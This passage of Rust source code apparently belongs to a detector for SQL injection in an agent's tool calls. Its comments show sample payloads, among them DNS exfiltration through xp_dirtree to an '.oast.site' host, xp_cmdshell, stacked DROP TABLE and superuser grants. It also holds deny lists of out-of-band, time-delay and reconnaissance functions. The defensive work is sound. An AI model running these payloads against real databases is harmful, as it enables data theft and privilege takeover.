            continue;
        }
        let parsed =
            Parser::new(&PostgreSqlDialect {}).with_recursion_limit(RECURSION_LIMIT).try_with_sql(source).and_then(|mut p| p.parse_expr());
        let folded = parsed.ok().and_then(|expr| constant(&expr, 0));
        let Some(s) = folded else {
            // (Its literals are the expression's own tokens: no more text
            // than the expression itself.)
            let expr = t.get(first..=last.unwrap_or(first)).unwrap_or(&[]);
            let literals: Vec<&str> = expr.iter().filter(|y| y.kind == Kind::Str).map(|y| y.text.as_str()).collect();
            // Only where the expression builds a host name around the
            // variable: a literal ending a UNC or URL prefix (`"\\'`,
            // `'http://'`) or one that goes on with a domain after it
            // (`'.oast.site\a'`). A DBA's path (`'D:\Backups\' + @db`)
            // or linked server (`OPENQUERY([' + @srv + '], ...)`) names none.
            let host = |l: &&str| {
                l.ends_with("\\\\") || l.ends_with("//") || {
                    // (Labels to a `\`, `/`, `:` or the literal's end:
                    // `'.dbo.stage FROM ...'` names a table.)
                    let d = l.strip_prefix('.').unwrap_or("");
                    let host = d.split(['\\', '/', ':']).next().unwrap_or("").trim_end_matches(['\'', '"']);
                    host.contains('.')
                        && host.split('.').all(|label| !label.is_empty() && label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'))
                }
            };
            if literals.iter().any(host) {
                // Literals joined as the server joins them (`'master..xp_' +
                // 'dirtree'` is one name), a variable or a call's place kept
                // by one letter, a bracketed name unbracketed.
                let mut built = String::new();
                let mut held = false;
                for y in expr {
                    match y.kind {
                        Kind::Str => {
                            built.push_str(&y.text);
                            held = false;
                        }
                        Kind::Word | Kind::Ident | Kind::Num if !held => {
                            built.push('x');
                            held = true;
                        }
                        _ => {}
                    }
                }
                out.built.push((built.replace(['[', ']'], ""), at));
            }
            continue;
        };
        match budget.checked_sub(s.len()) {
            Some(left) => {
                *budget = left;
                out.strings.push((s, at));
            }
            None => {
                out.unread.get_or_insert(at);
            }
        }
    }
}

/// The string `e` evaluates to, when it is a constant built of literals
/// (see [`executed_strings`]); `None` for anything else (a column, a
/// variable, a subquery) or past 16 KiB or 32 levels.
fn constant(e: &sqlparser::ast::Expr, depth: usize) -> Option<String> {
    use sqlparser::ast::{BinaryOperator, Expr, FunctionArg, FunctionArgExpr, FunctionArguments, Value};
    const MAX: usize = 16 * 1024;
    if depth > 32 {
        return None;
    }
    let s = match e {
        Expr::Value(v) => match &v.value {
            Value::SingleQuotedString(s)
            | Value::EscapedStringLiteral(s)
            | Value::TripleSingleQuotedString(s)
            | Value::TripleDoubleQuotedString(s)
            | Value::DoubleQuotedString(s)
            | Value::UnicodeStringLiteral(s)
            | Value::NationalStringLiteral(s) => s.clone(),
            Value::DollarQuotedString(d) => d.value.clone(),
            Value::Number(n, _) => n.to_string(),
            _ => return None,
        },
        // (BigQuery's strings may be double-quoted: read as identifiers here.)
        Expr::Identifier(id) if id.quote_style == Some('"') => id.value.clone(),
        Expr::Nested(inner) => constant(inner, depth + 1)?,
        Expr::Cast { expr, .. } => constant(expr, depth + 1)?,
        Expr::BinaryOp { op: BinaryOperator::StringConcat | BinaryOperator::Plus, .. } => {
            // (A chain `a || b || c` nests to the left: read along it, so
            // that its length is not a depth.)
            let mut rights = Vec::new();
            let mut head = e;
            while let Expr::BinaryOp { left, op: BinaryOperator::StringConcat | BinaryOperator::Plus, right } = head {
                rights.push(right);
                head = left;
            }
            let mut s = constant(head, depth + 1)?;
            for right in rights.iter().rev() {
                s.push_str(&constant(right, depth + 1)?);
                if s.len() > MAX {
                    return None;
                }
            }
            s
        }
        Expr::Function(f) => {
            let name = f.name.to_string().to_ascii_lowercase();
            let name = name.rsplit('.').next().unwrap_or("");
            let FunctionArguments::List(list) = &f.args else { return None };
            let mut args = Vec::new();
            for a in list.args.iter().take(64) {
                let FunctionArg::Unnamed(FunctionArgExpr::Expr(x)) = a else { return None };
                args.push(constant(x, depth + 1)?);
            }
            match (name, args.as_slice()) {
                ("chr" | "char" | "nchar", [n]) => char::from_u32(n.trim().parse().ok()?)?.to_string(),
                ("concat", _) => args.concat(),
                ("concat_ws", [sep, rest @ ..]) => rest.join(sep),
                ("upper", [s]) => s.to_uppercase(),
                ("lower", [s]) => s.to_lowercase(),
                ("replace", [s, from, to]) if !from.is_empty() => {
                    if s.len().saturating_add(s.matches(from.as_str()).count().saturating_mul(to.len())) > MAX {
                        return None;
                    }
                    s.replace(from.as_str(), to)
                }
                ("format", [fmt, rest @ ..]) => {
                    // `%s`, `%I`, `%L` take the next argument; `%%` is `%`.
                    let mut out = String::new();
                    let mut next = rest.iter();
                    let mut chars = fmt.chars();
                    while let Some(c) = chars.next() {
                        if c != '%' {
                            out.push(c);
                            continue;
                        }
                        match chars.next() {
                            Some('%') => out.push('%'),
                            Some('s' | 'I' | 'L') => out.push_str(next.next().map_or("", String::as_str)),
                            _ => return None,
                        }
                        if out.len() > MAX {
                            return None;
                        }
                    }
                    out
                }
                _ => return None,
            }
        }
        _ => return None,
    };
    (s.len() <= MAX).then_some(s)
}

/// `text` with every `' || '` between two single-quoted literals removed,
/// and the offset in `text` of each byte of the result (and of its end).
fn join_literals(text: &str) -> (String, Vec<usize>) {
    let b = text.as_bytes();
    let mut keep = Vec::with_capacity(b.len());
    let mut map = Vec::with_capacity(b.len() + 1);
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\'' {
            let mut k = i + 1;
            while b.get(k).is_some_and(u8::is_ascii_whitespace) {
                k += 1;
            }
            if b.get(k..k + 2) == Some(b"||") {
                k += 2;
                while b.get(k).is_some_and(u8::is_ascii_whitespace) {
                    k += 1;
                }
                if b.get(k) == Some(&b'\'') {
                    i = k + 1;
                    continue;
                }
            }
        }
        keep.push(b[i]);
        map.push(i);
        i += 1;
    }
    map.push(b.len());
    // (Only ASCII bytes were removed: the rest is still UTF-8.)
    (String::from_utf8_lossy(&keep).into_owned(), map)
}

/// [`escalation`] in `text` as written.
fn escalation_written(text: &str) -> Option<Range<usize>> {
    // (Tested before the lower-cased copy: most statements name neither.)
    if !super::has_ascii_ci(text, "superuser") && !super::has_ascii_ci(text, "bypassrls") {
        return None;
    }
    let lower = text.to_ascii_lowercase();
    // Words with their offsets (a `;` is a word of its own).
    let mut words: Vec<(usize, &str)> = Vec::new();
    let mut start = None;
    for (i, c) in lower.char_indices().chain(std::iter::once((lower.len(), ' '))) {
        let inside = c.is_ascii_alphanumeric() || c == '_';
        match (start, inside) {
            (None, true) => start = Some(i),
            (Some(st), false) => {
                words.extend(lower.get(st..i).map(|w| (st, w)));
                start = None;
            }
            _ => {}
        }
        if c == ';' {
            words.push((i, ";"));
        }
        if words.len() >= 4096 {
            break;
        }
    }
    for (i, (start, w)) in words.iter().enumerate() {
        if !matches!(*w, "alter" | "create") || !words.get(i + 1).is_some_and(|(_, n)| matches!(*n, "user" | "role")) {
            continue;
        }
        for (k, (end, v)) in words.iter().enumerate().skip(i + 2).take(12) {
            if *v == ";" {
                break;
            }
            // (`NO` before it, `WITH NO' || 'SUPERUSER` as written, demotes.)
            if matches!(*v, "superuser" | "bypassrls") && words.get(k.saturating_sub(1)).is_none_or(|(_, p)| *p != "no") {
                return Some(*start..end + v.len());
            }
        }
    }
    None
}

/// Whether `s` is a query of a log search language (Splunk's SPL, Kusto's
/// KQL, Lucene): a tool or field that names a SIEM or a log search, or the
/// language's own shape (`index=` or `sourcetype=` with a `| command`,
/// a table then `| where`).
fn search_query(s: &Subject<'_>) -> bool {
    const NAMES: &[&str] = &["siem", "splunk", "kusto", "kql", "sentinel", "lucene", "opensearch", "elastic", "loki", "logs"];
    let named = NAMES.iter().any(|w| super::has(s.tool, w)) || matches!(s.field, "spl" | "kql" | "lucene" | "search" | "search_query");
    let t = s.text.get(..super::floor_char(s.text, s.text.len().min(4096))).unwrap_or("");
    let lower = t.to_ascii_lowercase();
    let piped = ["| stats ", "| table ", "| where ", "| summarize ", "| project ", "| eval ", "| search ", "| timechart "]
        .iter()
        .any(|c| super::has(&lower, c));
    let spl = (lower.trim_start().starts_with("index=") || super::has(&lower, "sourcetype=")) && piped;
    named && (piped || spl || super::has(&lower, ":\"") || super::has(&lower, "index=")) || spl
}

/// The double-quoted spans of `text` (each with its quotes; a `\"` inside
/// one does not close it).
fn quoted_terms(text: &str) -> Vec<Range<usize>> {
    let mut out = Vec::new();
    let mut open: Option<usize> = None;
    let mut escaped = false;
    for (i, b) in text.bytes().enumerate() {
        match b {
            b'\\' if open.is_some() => escaped = !escaped,
            b'"' if !escaped => match open.take() {
                Some(start) => out.push(start..i + 1),
                None => open = Some(i),
            },
            _ => escaped = false,
        }
    }
    out
}

/// Whether `text` is a SQL script: at least three non-empty lines, the
/// first significant one a statement keyword, and no line that starts by
/// closing a literal.
fn is_script(text: &str) -> bool {
    let lines: Vec<&str> = text.lines().map(str::trim).filter(|l| !l.is_empty()).collect();
    if lines.len() < 3 || lines.iter().any(|l| l.starts_with(['\'', '"', ')'])) {
        return false;
    }
    // (psql meta-commands, `\set`, `\connect`, are no statements.)
    // A psql meta-command (`\set x 1`, `\connect db`): a backslash, a letter,
    // and no quote (`\x';` is a break-out, not a meta-command).
    let meta =
        |l: &&&str| l.starts_with('\\') && l.chars().nth(1).is_some_and(|c| c.is_ascii_alphabetic()) && !l.contains(['\'', '"', ';']);
    let Some(first) = lines.iter().find(|l| !l.starts_with("--") && !l.starts_with("/*") && !meta(l)) else { return false };
    let word: String = first.chars().take_while(char::is_ascii_alphabetic).collect::<String>().to_ascii_uppercase();
    matches!(
        word.as_str(),
        "CREATE"
            | "ALTER"
            | "BEGIN"
            | "WHILE"
            | "DECLARE"
            | "SET"
            | "UPDATE"
            | "INSERT"
            | "DELETE"
            | "WITH"
            | "LOCK"
            | "DO"
            | "IF"
            | "START"
            | "USE"
            | "SELECT"
    )
}

fn analyze_text(s: &Subject<'_>, out: &mut Vec<Hit>, dollar_literals: bool) {
    if s.text.is_empty() {
        nosql_value(s, out);
        return;
    }
    if s.context == Context::Key {
        nosql_key(s, out);
        return;
    }
    // Source code is judged by the code's own analyzers; a one-line `code`
    // value (a product code) is a value.
    if (s.context == Context::Code && (s.text.len() > 256 || s.text.contains('\n'))) || is_document(s) {
        return;
    }
    nosql_text(s, out);
    nosql_value(s, out);
    odata(s.text, out);
    if s.text.len() > MAX_STATEMENT {
        return;
    }
    // A shell command's SQL (`psql -c "..."`, `mysql -e "..."`) is written by
    // the agent like a query: only the calls no legitimate work makes.
    if s.context == Context::Shell {
        if DANGER.as_ref().is_some_and(|r| r.is_match(s.text.as_bytes())) {
            let mut found = Vec::new();
            let toks = lex(s.text, 0, s.text.len(), &GenericDialect {});
            dangerous_calls(&toks, true, &mut found);
            // The SQL inside the command's quoted arguments (one level).
            for q in toks.iter().filter(|t| matches!(t.kind, Kind::Str | Kind::Ident) && t.text.len() > 8) {
                let inner = lex(&q.text, 0, q.text.len(), &GenericDialect {});
                let start = q.at.start;
                let mut mine = Vec::new();
                dangerous_calls(&inner, true, &mut mine);
                found.extend(mine.into_iter().map(|(c, r, _)| (c, r, start..q.at.end)));
            }
            out.extend(found.into_iter().map(|(c, rule, at)| Hit::new(Family::SqlInjection, c, rule, at)));
        }
        return;
    }
    let mut found: Vec<(Confidence, &'static str, Range<usize>)> = Vec::new();
    if s.context != Context::Text {
        comment_spaces(s.text, &mut found);
    }
    let rewritten = uncomment(s.text, &mut found);
    let dollars = if dollar_literals { dollar_quotes(rewritten.as_deref().unwrap_or(s.text)) } else { None };
    let text = dollars.as_deref().or(rewritten.as_deref()).unwrap_or(s.text);
    // Outside a SQL field a statement must have a statement's grammar or
    // parse ("delete me' OR '1'='1" is a value; a statement only a decoding
    // revealed must have the grammar); in a SQL field a short one that does
    // not parse is read both ways.
    // (`ATTACH` heads a statement only where a database runs what the
    // agent writes: in a shop's search box `ATTACH DATABASE 'x.db' AS x;
    // DROP TABLE users; --` is stacked.)
    let runs_sql = || ["sql", "db", "database", "query", "execute", "duckdb", "postgres", "mysql"].iter().any(|w| super::has(s.tool, w));
    let head = is_statement(text) && (!attach_first(text) || s.context == Context::Sql && runs_sql());
    let statement = head && (s.context == Context::Sql || structured(text) || (!s.decoded && text.len() <= MAX_PARSE && parses(text)));
    let also_value = statement && s.context == Context::Sql && text.len() < 120 && !structured(text) && !parses(text);
    // An account made a superuser by any statement of the text (`ALTER USER
    // app WITH SUPERUSER` alone or first), or the privilege catalog written
    // by any (`UPDATE pg_authid SET rolsuper = true ...`):
    // a human approves it, as in a DBA's runbook. (Appended to a read, the
    // stacked-statement rules make it high.)
    if statement && s.context != Context::Text && text.len() <= MAX_VALUE {
        if let Some(at) = escalation(text) {
            found.push((Confidence::Medium, "sql.privilege-write", at));
        } else if let Some(at) = catalog_write(text) {
            found.push((Confidence::Medium, "sql.privilege-write", at));
        }
        // The SQL a statement executes, rebuilt from its pieces (`EXECUTE
        // 'ALTER USER app WITH SUPER' || chr(85) || 'SER'`, `EXECUTE
        // IMMEDIATE 'COPY INTO ' || '@stage/x FROM users'`): its escalations
        // and exports, at most medium, as the statement written out would be.
        let executed = executed_strings(text);
        if let Some(at) = executed.unread {
            // (Dynamic SQL too large to evaluate is not passed over.)
            found.push((Confidence::Medium, "sql.dynamic-unread", at));
        }
        // Dynamic SQL that joins a variable into a call that reaches a file
        // or the network (`EXEC('master..xp_dirtree "\\' + @h +
        // '.oast.site\a"')`: the value read a moment before, sent out by
        // DNS) is judged as the call written out.
        let reaches_out = |sql: &str| {
            let mut inner = Vec::new();
            dangerous_calls(&lex(sql, 0, sql.len(), &GenericDialect {}), true, &mut inner);
            inner.iter().any(|(_, rule, _)| *rule == "sql.file-or-network")
        };
        for (sql, at) in &executed.built {
            if reaches_out(sql) {
                found.push((Confidence::Medium, "sql.file-or-network", at.clone()));
            }
        }
        for (sql, at) in executed.strings {
            if escalation_written(&sql).is_some() || catalog_write(&sql).is_some() {
                found.push((Confidence::Medium, "sql.privilege-write", at.clone()));
            }
            if reaches_out(&sql) {
                found.push((Confidence::Medium, "sql.file-or-network", at));
            }
        }
    }
    if statement && STATEMENT_TRIGGER.as_ref().is_some_and(|r| r.is_match(text.as_bytes())) {
        statement_rules(text, s.text.len(), false, &mut found);
    }
    if (!statement || also_value) && text.len() <= MAX_VALUE && VALUE_TRIGGER.as_ref().is_some_and(|r| r.is_match(text.as_bytes())) {
        value_rules(text, s.text.len(), s.context, &mut found);
        if s.context == Context::Sql {
            // A SQL fragment (`where`, `filter`, `sort`): statement rules too.
            fragment_rules(text, s.text.len(), s.field, &mut found);
        }
    }
    // A value that ends a statement and makes an account a superuser
    // (`$.id') FROM events LIMIT 1; ALTER ROLE app WITH SUPERUSER; ...`).
    if !statement
        && s.context != Context::Text
        && text.len() <= MAX_VALUE
        && text.contains(';')
        && let Some(at) = escalation(text)
        && text.get(..at.start).is_some_and(|head| head.contains(';'))
    {
        found.push((Confidence::High, "sql.privilege-write", at));
    }
    // A fragment whose last literal is left open (`status = 'open') OR
    // ('x'='x`) is written for the quote the application closes it with:
    // read as closed too.
    if s.context == Context::Sql
        && !statement
        && found.is_empty()
        && text.len() < MAX_VALUE
        && text.bytes().filter(|b| *b == b'\'').count() % 2 == 1
    {
        let closed = format!("{text}'");
        let mut more = Vec::new();
        fragment_rules(&closed, closed.len(), s.field, &mut more);
        found.extend(more.into_iter().map(|(c, r, at)| (c, r, at.start.min(text.len())..at.end.min(text.len()))));
    }
    // A subquery in a value that is no statement (a sort key, an id, a
    // name): `(CASE WHEN (SELECT substr(usename,1,1) FROM pg_user ...)`.
    // A column list or a projection holds names: a subquery there is one
    // even when the value reads as a statement (`(SELECT ... FROM pg_shadow) AS notes`).
    let names =
        matches!(s.field, "columns" | "column" | "fields" | "field" | "select" | "projection" | "group_by" | "groupby" | "attributes");
    // (Both literals looked for open with `(`, kept as is by the
    // lower-casing below: a text without one has neither.)
    if (!statement || names) && s.context == Context::Unknown && text.len() <= MAX_VALUE && text.contains('(') {
        // Whitespace of any kind around the keyword (`(\nSELECT`, `(\tselect`).
        let lower: String = text.chars().map(|c| if c.is_ascii_whitespace() { ' ' } else { c.to_ascii_lowercase() }).collect();
        if let Some(p) = super::find(&lower, "(select ").or_else(|| super::find(&lower, "( select "))
            && lower.get(p..).is_some_and(|r| super::has(r, " from "))
        {
            found.push((Confidence::High, "sql.subquery", p..text.len().min(p + 64)));
        }
    }
    // A URL's query parameters are values of their own (`?id=1 OR 1=1`).
    if !statement && text.len() <= MAX_VALUE && (s.context == Context::Url || super::has(text, "://")) {
        query_values(text, &mut found);
    }
    // A filter language's string literal is a value the application
    // unescapes and then puts into its SQL: a GraphQL argument
    // (`filter: "status = 'paid') UNION SELECT ..."`), an RSQL comparison
    // (`name=='x\'); DROP TABLE items; --'`).
    // Only where a filter language is expected: a GraphQL tool or a filter
    // field, the literal an argument's value (after `:` or `=`).
    // (A search language's pattern, `uri="*' OR 1=1*"` in a detection
    // query, is a literal it looks for: outside GraphQL only a literal
    // with an escaped quote of its own counts.)
    let graphql = super::has(s.tool, "graphql") || s.field == "graphql";
    let filters = graphql
        || matches!(
            s.field,
            "filter"
                | "filters"
                | "$filter"
                | "where"
                | "q"
                | "query"
                | "search"
                | "fiql"
                | "rsql"
                | "criteria"
                | "conditions"
                | "filter_expression"
                | "filterexpression"
        );
    if filters
        && !statement
        && matches!(s.context, Context::Unknown | Context::Sql | Context::Url)
        && text.len() <= MAX_VALUE
        && found.is_empty()
    {
        literal_values(text, graphql, &mut found);
    }
    // Split keywords are weaker evidence in a whole statement written by the agent.
    for (c, rule, at) in found {
        let c = if statement && rule == "sql.comment-split-keyword" { c.min(Confidence::Medium) } else { c };
        out.push(Hit::new(Family::SqlInjection, c, rule, at));
    }
}

/// A prose document (a message body, a page): not analyzed for SQL.
fn is_document(s: &Subject<'_>) -> bool {
    s.context == Context::Text && (s.text.len() > 600 || super::has(s.text, "```") || s.text.bytes().filter(|b| *b == b'\n').count() > 4)
}

/// Whether the text parses as SQL (MySQL or generic dialect, within the
/// recursion limit).
fn parses(text: &str) -> bool {
    !update_without_set(text) && parses_as_written(text)
}

/// Whether `text` is an UPDATE that names no SET: ASCII, opening with the
/// word `update` (after blanks the tokenizer skips), with no `set` in any
/// case anywhere. sqlparser's UPDATE expects the SET keyword after its
/// table (both dialects `parses` tries), and the first statement fails
/// with it: "update deployment" does not parse, and is not parsed.
/// (ASCII only: sqlparser upper-cases words by Unicode, `ſet` is SET.)
fn update_without_set(text: &str) -> bool {
    let t = text.trim_start_matches([' ', '\t', '\n', '\r']).as_bytes();
    text.is_ascii()
        && t.get(..6).is_some_and(|w| w.eq_ignore_ascii_case(b"update"))
        && t.get(6).is_some_and(|b| matches!(b, b' ' | b'\t' | b'\n' | b'\r'))
        && !super::has_ascii_ci(text, "set")
}

/// Whether sqlparser parses `text` in one of the dialects.
fn parses_as_written(text: &str) -> bool {
    let dialects: [&dyn Dialect; 2] = [&GenericDialect {}, &MySqlDialect {}];
    dialects
        .iter()
        .any(|d| Parser::new(*d).with_recursion_limit(RECURSION_LIMIT).try_with_sql(text).and_then(|mut p| p.parse_statements()).is_ok())
}

/// Whether the text starts with a statement's grammar (`DROP TABLE`,
/// `DELETE FROM`, `UPDATE t SET`, `SELECT ... FROM`): a dialect the parser
/// does not know is still SQL.
fn structured(text: &str) -> bool {
    let mut cut = text.len().min(400);
    while !text.is_char_boundary(cut) {
        cut -= 1;
    }
    let t = lex(text.get(..cut).unwrap_or(""), 0, cut, &GenericDialect {});
    let sig: Vec<&Tok> = t.iter().filter(|x| x.kind != Kind::Comment && x.kind != Kind::LParen).collect();
    stacked(&sig, 0).is_some()
        || sig.first().is_some_and(|x| x.is_any(&["WITH", "EXPLAIN", "SHOW", "VALUES", "BEGIN", "COMMIT", "PRAGMA", "VACUUM", "ANALYZE"]))
}

/// Statement heads of a whole SQL text.
const STATEMENT_HEADS: &[&str] = &[
    "SELECT",
    "WITH",
    "INSERT",
    "UPDATE",
    "DELETE",
    "CREATE",
    "ALTER",
    "DROP",
    "EXPLAIN",
    "SHOW",
    "VALUES",
    "COPY",
    "SET",
    "BEGIN",
    "MERGE",
    "TRUNCATE",
    "GRANT",
    "REVOKE",
    "DECLARE",
    "EXEC",
    "EXECUTE",
    "CALL",
    "USE",
    "DESCRIBE",
    "DESC",
    "PRAGMA",
    "REPLACE",
    "UPSERT",
    "LOCK",
    "ANALYZE",
    "VACUUM",
    "ATTACH",
    "COMMIT",
    "START",
    "REFRESH",
    "COMMENT",
    "RENAME",
    "OPTIMIZE",
    "CLUSTER",
    "REINDEX",
    "LOAD",
    "UNLOAD",
    "PREPARE",
    "DO",
    "SAVEPOINT",
    "ROLLBACK",
];

/// Whether the text is a whole statement (its first word, past comments and
/// parentheses, is a statement keyword followed by more SQL).
pub(super) fn is_statement(text: &str) -> bool {
    let mut t = text.trim_start();
    for _ in 0..64 {
        if let Some(r) = t.strip_prefix("--") {
            t = r.split_once('\n').map_or("", |(_, rest)| rest).trim_start();
        } else if let Some(r) = t.strip_prefix('#') {
            t = r.split_once('\n').map_or("", |(_, rest)| rest).trim_start();
        } else if let Some(r) = t.strip_prefix("/*") {
            t = r.split_once("*/").map_or("", |(_, rest)| rest).trim_start();
        } else if let Some(r) = t.strip_prefix('(') {
            t = r.trim_start();
        } else {
            break;
        }
    }
    // (The leading ASCII letters, compared without case in place: no
    // allocation.)
    let word = t.get(..t.bytes().take_while(u8::is_ascii_alphabetic).count()).unwrap_or("");
    if !STATEMENT_HEADS.iter().any(|h| h.eq_ignore_ascii_case(word)) {
        return false;
    }
    // "Select all users" is prose; "SELECT a FROM t" is SQL.
    let rest = t.get(word.len()..).unwrap_or("");
    (rest.is_empty() || rest.starts_with(|c: char| c.is_whitespace() || c == '*' || c == '(' || c == ';'))
        && (!word.eq_ignore_ascii_case("SELECT")
            || rest.to_ascii_uppercase().contains("FROM")
            || !rest.contains(|c: char| c.is_ascii_lowercase())
            || rest.contains(['(', ',', '\'']))
}

/// Functions that wait: time-based blind injection.
const SLEEP_FUNCS: &[&str] =
    &["SLEEP", "PG_SLEEP", "PG_SLEEP_FOR", "BENCHMARK", "DBMS_LOCK.SLEEP", "DBMS_PIPE.RECEIVE_MESSAGE", "DBMS_SESSION.SLEEP"];
/// Functions that read files, run commands or reach the network.
const OOB_FUNCS: &[&str] = &[
    "LOAD_FILE",
    "XP_CMDSHELL",
    "XP_DIRTREE",
    "XP_FILEEXIST",
    "XP_SUBDIRS",
    "XP_REGREAD",
    "XP_REGWRITE",
    "XP_AVAILABLEMEDIA",
    "SP_OACREATE",
    "SP_OAMETHOD",
    "SP_EXECUTE_EXTERNAL_SCRIPT",
    "UTL_HTTP.REQUEST",
    "UTL_HTTP.BEGIN_REQUEST",
    "UTL_INADDR.GET_HOST_ADDRESS",
    "UTL_INADDR.GET_HOST_NAME",
    "UTL_TCP.OPEN_CONNECTION",
    "UTL_FILE.FOPEN",
    "DBMS_LDAP.INIT",
    "HTTPURITYPE",
    "DBMS_JAVA.RUNJAVA",
    "DBMS_SCHEDULER.CREATE_JOB",
    "PG_READ_FILE",
    "PG_READ_BINARY_FILE",
    "PG_LS_DIR",
    "PG_STAT_FILE",
    "LO_IMPORT",
    "LO_EXPORT",
    "SYS_EXEC",
    "SYS_EVAL",
    "OPENROWSET",
    "OPENDATASOURCE",
    "OPENQUERY",
    "DBLINK",
    "DBLINK_EXEC",
    "DBLINK_CONNECT",
    "DBLINK_CONNECT_U",
    "DBLINK_SEND_QUERY",
    "DBLINK_OPEN",
    "DBLINK_FETCH",
    "DBLINK_GET_RESULT",
    "LOAD_EXTENSION",
    "FN_XE_FILE_TARGET_READ_FILE",
    "FN_GET_AUDIT_FILE",
    "FN_TRACE_GETTABLE",
];
/// Procedures run without parentheses (`EXEC master..xp_cmdshell 'whoami'`).
const OOB_PROCS: &[&str] = &[
    "XP_CMDSHELL",
    "XP_DIRTREE",
    "XP_FILEEXIST",
    "XP_SUBDIRS",
    "XP_REGREAD",
    "XP_REGWRITE",
    "SP_OACREATE",
    "SP_OAMETHOD",
    "SP_EXECUTE_EXTERNAL_SCRIPT",
];
/// Error-based extraction functions.
const ERROR_FUNCS: &[&str] = &[
    "EXTRACTVALUE",
    "UPDATEXML",
    "GTID_SUBSET",
    "GTID_SUBTRACT",
    "CTXSYS.DRITHSX.SN",
    "DBMS_XDB_VERSION.CHECKIN",
    "XMLTYPE",
    "JSON_KEYS",
    "ST_LATFROMGEOHASH",
    "NAME_CONST",
];
/// Functions of boolean-blind probes and string building.
const PROBE_FUNCS: &[&str] = &[
    "ASCII",
    "ORD",
    "SUBSTRING",
    "SUBSTR",
    "MID",
    "LENGTH",
    "LEN",
    "CHAR",
    "CHR",
    "NCHAR",
    "CONCAT",
    "CONCAT_WS",
    "GROUP_CONCAT",
    "STRING_AGG",
    "HEX",
    "UNHEX",
    "IF",
    "IIF",
    "ELT",
    "CAST",
    "CONVERT",
    "COUNT",
    "EXISTS",
    "VERSION",
    "DATABASE",
    "USER",
    "CURRENT_USER",
    "SYSTEM_USER",
    "DB_NAME",
    "USER_NAME",
    "RAND",
    "FLOOR",
    "EXP",
    "MAKE_SET",
    "BIN",
    "UNICODE",
    "INSTR",
    "LIKE",
    "REGEXP_LIKE",
    "SUBSTRB",
    "UPPER",
    "LOWER",
    "REVERSE",
    "LEFT",
    "RIGHT",
    "RANDOMBLOB",
    "UTL_INADDR",
    "SCHEMA",
    "CURRENT_DATABASE",
    "HOST_NAME",
    "SUSER_NAME",
    "IS_SRVROLEMEMBER",
    "DB_ID",
];
/// Catalogs and variables that only reconnaissance reads from a value.
const RECON: &[&str] = &[
    "INFORMATION_SCHEMA",
    "SYSOBJECTS",
    "SYSCOLUMNS",
    "SQLITE_MASTER",
    "SQLITE_SCHEMA",
    "PG_SHADOW",
    "PG_USER",
    "PG_DATABASE",
    "ALL_TABLES",
    "ALL_TAB_COLUMNS",
    "USER_TABLES",
    "DBA_USERS",
    "SYS.DATABASES",
    "MASTER..SYSDATABASES",
    "MYSQL.USER",
    "PG_CATALOG",
    "V$VERSION",
    "DUAL",
];
/// Statements an injected `;` starts.
const STACKED_HEADS: &[&str] = &[
    "DROP",
    "DELETE",
    "INSERT",
    "UPDATE",
    "EXEC",
    "EXECUTE",
    "DECLARE",
    "SHUTDOWN",
    "CREATE",
    "ALTER",
    "TRUNCATE",
    "SELECT",
    "WAITFOR",
    "COPY",
    "GRANT",
    "REVOKE",
    "SET",
    "IF",
    "BEGIN",
    "CALL",
    "LOAD",
    "RENAME",
    "REPLACE",
    "MERGE",
    "USE",
    "KILL",
    "BACKUP",
    "RESTORE",
    "RECONFIGURE",
    "DBCC",
    "ATTACH",
    "PRAGMA",
];
/// JavaScript statement heads after a `;` (a `$where` break-out).
const JS_HEADS: &[&str] = &["RETURN", "WHILE", "VAR", "LET", "CONST", "SLEEP", "THIS", "FOR", "DB", "FUNCTION"];
/// Comparison operators.
const CMP: &[&str] = &["=", "==", "<>", "!=", "<", ">", "<=", ">=", "<=>"];

/// The function name at `i` (dotted names joined: `DBMS_PIPE.RECEIVE_MESSAGE`,
/// `master..xp_cmdshell` ends in `XP_CMDSHELL`) and the index after it.
fn name_at(t: &[Tok], i: usize) -> Option<(String, usize)> {
    let first = t.get(i)?;
    if first.kind != Kind::Word && first.kind != Kind::Ident {
        return None;
    }
    let mut name = first.text.to_ascii_uppercase();
    let mut j = i + 1;
    loop {
        let mut k = j;
        let mut dots = 0;
        while t.get(k).is_some_and(|x| x.kind == Kind::Period) {
            k += 1;
            dots += 1;
        }
        match t.get(k) {
            Some(w) if dots > 0 && (w.kind == Kind::Word || w.kind == Kind::Ident) => {
                name.push('.');
                name.push_str(&w.text.to_ascii_uppercase());
                j = k + 1;
            }
            _ => break,
        }
    }
    Some((name, j))
}

/// The last part of a dotted name.
fn last_part(name: &str) -> &str {
    name.rsplit('.').next().unwrap_or(name)
}

/// Whether `name` is in `set` (whole, or by its last part for procedures).
fn named(name: &str, set: &[&str]) -> bool {
    set.contains(&name) || set.contains(&last_part(name))
}

/// The file an `ATTACH [DATABASE]` names, from token `j`: its literals
/// joined up to `AS` (`'/var/www/s' || '.php'`, `("x.php")`), a `file:`
/// URI's path without its query; and the last token read.
fn attached_file(t: &[Tok], j: usize) -> Option<(String, usize, bool)> {
    let mut file = String::new();
    let mut last = None;
    // A name computed by a function or a subquery (`replace(...)`,
    // `printf(...)`, `(SELECT v FROM cfg)`): not a literal file.
    let mut computed = false;
    let mut k = j;
    while let Some(tok) = t.get(k)
        && k < j + 64
    {
        if tok.is("AS") || tok.text == ";" {
            break;
        }
        // `char(47,118,97,...)`: the name spelled as code points.
        if tok.is_any(&["CHAR", "CHR"]) && t.get(k + 1).is_some_and(|x| x.kind == Kind::LParen) {
            let mut m = k + 2;
            // (The lexer gives `0x2f` as the hex literal `2f`.)
            while let Some(x) = t.get(m)
                && matches!(x.kind, Kind::Num | Kind::Comma | Kind::Str)
            {
                let code = match x.kind {
                    Kind::Str => u32::from_str_radix(&x.text, 16).ok(),
                    _ => x.text.parse::<u32>().ok(),
                };
                if let Some(c) = code.and_then(char::from_u32) {
                    file.push(c);
                }
                m += 1;
            }
            last = Some(m.min(t.len() - 1));
            k = m + 1;
            continue;
        }
        if tok.kind == Kind::LParen && k == j || tok.kind == Kind::Word && t.get(k + 1).is_some_and(|x| x.kind == Kind::LParen) {
            computed = true;
        }
        if matches!(tok.kind, Kind::Str | Kind::Word) && !tok.is("DATABASE") {
            file.push_str(tok.text.trim_matches(['\'', '"', '`']));
            last = Some(k);
        }
        k += 1;
    }
    let file = file.strip_prefix("file:").unwrap_or(&file);
    let file = file.split('?').next().unwrap_or(file).to_owned();
    Some((file, last?, computed))
}

/// How far a database file written by `ATTACH` or `VACUUM INTO` (its name
